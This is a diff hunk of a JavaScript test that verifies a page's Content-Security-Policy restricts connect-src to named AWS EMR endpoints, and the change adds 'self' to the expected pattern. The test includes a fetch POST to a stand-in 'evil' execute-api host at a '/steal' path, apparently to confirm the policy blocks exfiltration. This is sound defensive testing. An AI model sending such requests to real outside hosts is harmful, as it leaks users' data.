@@ -140,7 +140,7 @@ test('the CSP names EMR and S3 endpoints, not all of amazonaws.com', async () =>
   const headers = JSON.parse(readFileSync(join(ROOT, 'deploy/headers.json'), 'utf8'));
   const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)"/)[1];
   assert.equal(meta, headers.meta_content_security_policy);
-  assert.match(meta, /connect-src https:\/\/elasticmapreduce\.us-east-1\.amazonaws\.com /);
+  assert.match(meta, /connect-src 'self' https:\/\/elasticmapreduce\.us-east-1\.amazonaws\.com /);
   const blocked = await page.evaluate(async () => {
     try {
       await fetch('https://evil.execute-api.us-east-1.amazonaws.com/steal', { method: 'POST', body: 'x' });
